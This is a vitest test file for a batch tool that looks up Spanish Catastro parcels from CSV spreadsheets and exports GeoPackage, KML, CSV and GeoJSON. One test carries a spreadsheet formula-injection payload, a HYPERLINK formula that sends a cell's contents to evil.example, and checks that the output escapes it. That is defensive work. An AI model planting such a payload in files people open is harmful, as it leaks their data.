import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { kml as kmlToGeoJson } from '@tmcw/togeojson';
import { DOMParser } from '@xmldom/xmldom';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { journalPathOf, runBatchFile } from '../../../core/batch/batch-file.js';
import type { ParcelQuery } from '../../../core/model/index.js';
import { startTestApi, type TestApi } from '../../helpers/api-harness.js';
import { tempDir } from '../../helpers/temp-dir.js';
import { embeddedCopy } from '../../helpers/embedded-copy.js';

/** Sample parcels (bundled copy), the Madrid finca the fake Catastro serves live, a reference nobody has, a malformed one. */
const SAMPLE_A = '40146A00405051';
const SAMPLE_B = '000700100UL74F';
const SAMPLE_POINT = { latitude: '41,06001846893712', longitude: '-4,470268457843249' };
const LIVE_FINCA = '9398516VK3799G';
const UNKNOWN = '9999999VK9999A';

let api: TestApi;
let dir: string;
beforeAll(async () => {
  api = await startTestApi();
  dir = tempDir('catastro-batch-');
});
afterAll(async () => {
  await api?.close();
});

function writeInput(name: string, text: string): string {
  const file = path.join(dir, name);
  writeFileSync(file, text);
  return file;
}

/** Semicolon separated, decimal commas, as a Spanish spreadsheet saves it; references and points mixed. */
const MIXED = [
  'Referencia;Latitud;Longitud;nota',
  `${SAMPLE_A};;;a`,
  `;${SAMPLE_POINT.latitude};${SAMPLE_POINT.longitude};punto`,
  `${LIVE_FINCA};;;live`,
  `${UNKNOWN};;;nadie`,
  'XYZ;;;mala',
  `${SAMPLE_B};;;b`,
].join('\n');

const find = (query: ParcelQuery, signal?: AbortSignal) => api.service.findParcel(query, signal);

describe('runBatchFile', () => {
  it('answers references and points from the copy and live, keeps not-found and failed rows with their reason, and writes a GeoPackage GDAL reads', async () => {
    const input = writeInput('mixed.csv', MIXED);
    const output = path.join(dir, 'mixed.gpkg');
    const progress: number[] = [];
    const outcome = await runBatchFile({ input, output, find, onProgress: (c) => progress.push(c.done) });

    expect(outcome.columns).toEqual({ reference: 'Referencia', latitude: 'Latitud', longitude: 'Longitud' });
    expect(outcome.counts).toEqual({ total: 6, done: 6, found: 4, notFound: 1, failed: 1, charged: 0 });
    expect(progress.at(-1)).toBe(6);
    const byRow = new Map(outcome.results.map((r) => [r.row, r]));
    expect(byRow.get(1)!.parcel!.refCatastral).toBe(SAMPLE_A);
    expect(byRow.get(2)!.parcel!.refCatastral).toBe(SAMPLE_A);
    expect(byRow.get(3)!.parcel!.dataSource).toBe('catastro');
    expect(byRow.get(4)).toMatchObject({ status: 'not_found', code: 'NOT_FOUND' });
    expect(byRow.get(5)).toMatchObject({ status: 'failed', code: 'VALIDATION_ERROR' });
    expect(byRow.get(5)!.reason).toMatch(/XYZ/);
    // Nothing left to retry: the journal is gone.
    expect(outcome.journal).toBeUndefined();
    expect(existsSync(journalPathOf(output))).toBe(false);

    // GDAL is the judge: ogrinfo opens it as a GeoPackage layer, ogr2ogr reads every feature back.
    const summary = spawnSync('ogrinfo', ['-so', '-al', output], { encoding: 'utf8' });
    expect(summary.status, summary.stderr).toBe(0);
    expect(summary.stdout).toContain("using driver `GPKG' successful");
    expect(summary.stdout).toMatch(/Layer name: mixed\n/);
    expect(summary.stdout).toMatch(/Geometry: Polygon\n/);
    expect(summary.stdout).toMatch(/Feature Count: 6\n/);
    expect(summary.stdout).toContain('ID["EPSG",4326]');
    const info = spawnSync('ogr2ogr', ['-f', 'GeoJSON', '/vsistdout/', output], { encoding: 'utf8' });
    expect(info.status, info.stderr).toBe(0);
    const features = JSON.parse(info.stdout).features as { properties: Record<string, unknown>; geometry: { coordinates: number[][][] } | null }[];
    const live = features.find((f) => f.properties.row === 3)!;
    expect(live.properties.refCatastral).toBe(LIVE_FINCA);
    expect(live.properties.in_nota).toBe('live');
    const parcel = byRow.get(3)!.parcel!;
    expect(live.geometry!.coordinates[0][0][0]).toBeCloseTo(parcel.poligono[0][0], 9);
    expect(live.geometry!.coordinates[0][0][1]).toBeCloseTo(parcel.poligono[0][1], 9);
    expect(features.find((f) => f.properties.row === 4)).toMatchObject({ geometry: null, properties: { status: 'not_found' } });
  });

  it('writes KML with one placemark per parcel named by reference, and CSV and GeoJSON with every row', async () => {
    const input = writeInput('refs.csv', `ref,country\n${SAMPLE_A},ES\n${SAMPLE_B},\n${UNKNOWN},ES\n`);
    const kmlOut = path.join(dir, 'refs.kml');
    await runBatchFile({ input, output: kmlOut, find });
    const placemarks = kmlToGeoJson(new DOMParser().parseFromString(readFileSync(kmlOut, 'utf8'), 'text/xml') as unknown as Document).features;
    expect(placemarks.map((f) => f.properties?.name)).toEqual([SAMPLE_A, SAMPLE_B]);
    expect(placemarks.every((f) => f.geometry?.type === 'Polygon')).toBe(true);

    const csvOut = path.join(dir, 'refs.csv.out.csv');
    await runBatchFile({ input, output: csvOut, find });
    const rows = parse(readFileSync(csvOut, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.row, r.status, r.refCatastral])).toEqual([
      ['1', 'found', SAMPLE_A],
      ['2', 'found', SAMPLE_B],
      ['3', 'not_found', ''],
    ]);
    expect(Number(rows[0].superficieParcela)).toBeGreaterThan(0);

    const geojsonOut = path.join(dir, 'refs.geojson');
    await runBatchFile({ input, output: geojsonOut, find });
    const info = spawnSync('ogr2ogr', ['-f', 'GeoJSON', '/vsistdout/', geojsonOut], { encoding: 'utf8' });
    expect(info.status, info.stderr).toBe(0);
    expect(JSON.parse(info.stdout).features).toHaveLength(3);
  });

  it('looks rows of a farm spreadsheet up by province, municipality, polígono and parcela: copy, live, not found, foral, malformed', async () => {
    // 40146A00500023 answered live: the fake's hand-written Consulta_DNPPP answer, outline cut from the real download.
    embeddedCopy(api.service).db.prepare('DELETE FROM parcels WHERE country = ? AND ref = ?').run('ES', '40146A00500023');
    const input = writeInput(
      'farm.csv',
      [
        'Provincia;Municipio;Polígono;Parcela;Referencia;Cultivo',
        '40;146;1;5;;cereal',
        '40;146;5;23;;barbecho',
        '40;146;999;99999;;pastos',
        '31;201;6;1838;;viña',
        '40;146;1000;1;;olivar',
        `;;;;${SAMPLE_B};huerta`,
      ].join('\n'),
    );
    const output = path.join(dir, 'farm.out.csv');
    const outcome = await runBatchFile({ input, output, find });

    expect(outcome.columns).toEqual({ reference: 'Referencia', provincia: 'Provincia', municipio: 'Municipio', poligono: 'Polígono', parcela: 'Parcela' });
    expect(outcome.counts).toEqual({ total: 6, done: 6, found: 3, notFound: 1, failed: 2, charged: 0 });
    // Written back as the spreadsheet wrote it: semicolons (and a BOM, decimal commas).
    const rows = parse(readFileSync(output, 'utf8'), { columns: true, delimiter: ';', bom: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.row, r.status, r.refCatastral, r.in_Cultivo])).toEqual([
      ['1', 'found', '40146A00100005', 'cereal'],
      ['2', 'found', '40146A00500023', 'barbecho'],
      ['3', 'not_found', '', 'pastos'],
      ['4', 'failed', '', 'viña'],
      ['5', 'failed', '', 'olivar'],
      ['6', 'found', SAMPLE_B, 'huerta'],
    ]);
    const byRow = new Map(outcome.results.map((r) => [r.row, r]));
    expect(byRow.get(2)!.parcel!.dataSource).toBe('catastro');
    expect(byRow.get(4)).toMatchObject({ code: 'CNV_COVERAGE' });
    expect(byRow.get(4)!.reason).toContain('country=NA');
    expect(byRow.get(5)).toMatchObject({ code: 'VALIDATION_ERROR' });
    expect(byRow.get(5)!.reason).toMatch(/'poligono'.*1 to 999/);
  });

  it('looks up rows of a SIGPAC/PAC sheet naming the municipality by name or INE code, asking the street directory once for the province, and writes them back', async () => {
    const input = writeInput(
      'pac.csv',
      [
        'Provincia,Municipio,Polígono,Parcela,Recinto',
        'SEGOVIA,MELQUE DE CERCOS,1,5,1',
        'Segovia,Melque de Cercos,4,5051,2',
        'segovia,40125,1,5,3',
        '40,40125,4,5051,4',
        '40,Navas,1,5,5',
        '40,Villanueva de Nadie,1,5,6',
        'Navarra,Pamplona,6,1838,7',
      ].join('\n'),
    );
    const directoryBefore = api.callejero.requests.filter((url) => url.includes('ConsultaMunicipio')).length;
    const output = path.join(dir, 'pac.out.csv');
    const outcome = await runBatchFile({ input, output, find });

    expect(outcome.counts).toEqual({ total: 7, done: 7, found: 4, notFound: 1, failed: 2, charged: 0 });
    const rows = parse(readFileSync(output, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.row, r.status, r.refCatastral, r.in_Municipio, r.in_Recinto])).toEqual([
      ['1', 'found', '40146A00100005', 'MELQUE DE CERCOS', '1'],
      ['2', 'found', SAMPLE_A, 'Melque de Cercos', '2'],
      ['3', 'found', '40146A00100005', '40125', '3'],
      ['4', 'found', SAMPLE_A, '40125', '4'],
      ['5', 'failed', '', 'Navas', '5'],
      ['6', 'not_found', '', 'Villanueva de Nadie', '6'],
      ['7', 'failed', '', 'Pamplona', '7'],
    ]);
    const byRow = new Map(outcome.results.map((r) => [r.row, r]));
    expect(byRow.get(5)).toMatchObject({ code: 'VALIDATION_ERROR' });
    expect(byRow.get(5)!.reason).toContain('NAVAS DE ORO');
    expect(byRow.get(7)).toMatchObject({ code: 'CNV_COVERAGE' });
    // Segovia's municipalities were listed once for the whole batch (INE codes and the unknown name), not per row.
    expect(api.callejero.requests.filter((url) => url.includes('ConsultaMunicipio')).length - directoryBefore).toBe(1);
  });

  it("writes a CSV no spreadsheet runs as formulas: the user's =, +, @ cells get a leading quote, negative coordinates stay numbers, and the result reads back as a batch", async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const input = writeInput(
      'formulas.csv',
      [
        'Latitud,Longitud,nota,otra',
        `41.06001846893712,-4.470268457843249,"${hyperlink.replaceAll('"', '""')}",@SUM(1)`,
        `41.06001846893712,-4.470268457843249,+1+1,-2+3`,
      ].join('\n'),
    );
    const output = path.join(dir, 'formulas.out.csv');
    const outcome = await runBatchFile({ input, output, find });
    expect(outcome.counts).toMatchObject({ total: 2, found: 2 });

    const text = readFileSync(output, 'utf8');
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.in_nota, r.in_otra])).toEqual([
      [`'${hyperlink}`, "'@SUM(1)"],
      ["'+1+1", "'-2+3"],
    ]);
    expect(rows.map((r) => [r.in_Latitud, r.in_Longitud])).toEqual([
      ['41.06001846893712', '-4.470268457843249'],
      ['41.06001846893712', '-4.470268457843249'],
    ]);
    // The parcel's centroid, a number, is written as one too (its longitude is negative).
    expect(Number(rows[0].longitud)).toBeLessThan(0);
    // No cell of the file, quoted or not, begins with a formula character once parsed.
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && Number.isNaN(Number(cell))))).toEqual([]);

    // Round trip: the result, fed back as a batch naming its coordinate columns, finds the same parcels.
    const again = await runBatchFile({
      input: output,
      output: path.join(dir, 'formulas.again.csv'),
      columns: { latitude: 'in_Latitud', longitude: 'in_Longitud' },
      find,
    });
    expect(again.counts).toMatchObject({ total: 2, found: 2 });
    expect(again.results.map((r) => r.parcel?.refCatastral)).toEqual(outcome.results.map((r) => r.parcel?.refCatastral));
  });

  it('resumes an interrupted batch without asking answered rows again, and asks rows that failed with the source down', async () => {
    const input = writeInput('resume.csv', `ref\n${SAMPLE_A}\n${LIVE_FINCA}\n${SAMPLE_B}\n${UNKNOWN}\n`);
    const output = path.join(dir, 'resume.geojson');
    const stop = new AbortController();
    const asked: string[] = [];
    const first = await runBatchFile({
      input,
      output,
      concurrency: 1,
      signal: stop.signal,
      find: async (query, signal) => {
        asked.push((query as { reference: string }).reference);
        const parcel = await find(query, signal);
        if (asked.length === 1) stop.abort();
        return parcel;
      },
    });
    expect(first.complete).toBe(false);
    expect(first.counts.done).toBe(1);
    expect(first.journal).toBe(journalPathOf(output));

    // Second run: the live source is down, so the live finca and the unknown reference fail and stay retryable.
    api.fake.setFault({ kind: 'status', status: 503 });
    const secondAsked: string[] = [];
    const second = await runBatchFile({
      input,
      output,
      find: (q, s) => {
        secondAsked.push((q as { reference: string }).reference);
        return find(q, s);
      },
    });
    api.fake.setFault({ kind: 'none' });
    expect(second.resumed).toBe(1);
    expect(secondAsked.sort()).toEqual([LIVE_FINCA, SAMPLE_B, UNKNOWN].sort());
    expect(second.results.filter((r) => r.code === 'SERVICE_UNAVAILABLE').length).toBeGreaterThan(0);
    expect(second.journal).toBeDefined();

    const thirdAsked: string[] = [];
    const third = await runBatchFile({
      input,
      output,
      find: (q, s) => {
        thirdAsked.push((q as { reference: string }).reference);
        return find(q, s);
      },
    });
    expect(thirdAsked.every((ref) => ref === LIVE_FINCA || ref === UNKNOWN)).toBe(true);
    expect(third.counts).toMatchObject({ total: 4, done: 4, found: 3, notFound: 1, failed: 0 });
    expect(third.journal).toBeUndefined();
  });

  it('refuses a CSV without reference or coordinate columns, naming the columns it has, and a named column that is absent', async () => {
    const input = writeInput('bad.csv', 'name,city\nx,y\n');
    await expect(runBatchFile({ input, output: path.join(dir, 'bad.csv.gpkg'), find })).rejects.toMatchObject({
      code: 'VALIDATION_ERROR',
      message: expect.stringContaining('name, city'),
    });
    await expect(runBatchFile({ input, output: path.join(dir, 'bad2.gpkg'), columns: { reference: 'ref' }, find })).rejects.toMatchObject({
      code: 'VALIDATION_ERROR',
    });
    await expect(runBatchFile({ input, output: path.join(dir, 'bad.txt'), find })).rejects.toMatchObject({ code: 'VALIDATION_ERROR' });
    // The named column wins over detection.
    const named = writeInput('named.csv', `finca,nota\n${SAMPLE_B},x\n`);
    const outcome = await runBatchFile({ input: named, output: path.join(dir, 'named.csv.out.csv'), columns: { reference: 'finca' }, find });
    expect(outcome.counts.found).toBe(1);
  });

  // A 700 MB file was read whole (1.2 GB resident) and ended in V8's "Cannot create a string
  // longer than 0x1fffffe8 characters", no code; the size is known before reading a byte.
  it('refuses a file past the size cap before reading it', async () => {
    const input = path.join(dir, 'huge.csv');
    writeFileSync(input, `refcat\n${SAMPLE_B}\n`);
    truncateSync(input, 700 * 1024 * 1024);
    const started = Date.now();
    await expect(runBatchFile({ input, output: path.join(dir, 'huge.out.csv'), find })).rejects.toMatchObject({
      code: 'VALIDATION_ERROR',
      message: expect.stringMatching(/huge\.csv is larger than 20 MiB; split it into several batches/),
    });
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(existsSync(path.join(dir, 'huge.out.csv'))).toBe(false);
  });

  // A million rows (15 MB, under the size cap) were all parsed into objects before being
  // counted: 21 s and 500 MB to say no. Reading stops at the first row past the cap.
  it('refuses a CSV past the row cap at the first row beyond it', async () => {
    const input = writeInput('million.csv', `refcat\n${`${SAMPLE_B}\n`.repeat(1_000_000)}`);
    const started = Date.now();
    await expect(runBatchFile({ input, output: path.join(dir, 'million.out.csv'), find })).rejects.toMatchObject({
      code: 'VALIDATION_ERROR',
      message: 'The CSV has more than 100000 rows; a batch takes at most 100000.',
    });
    expect(Date.now() - started).toBeLessThan(5_000);
  });
});
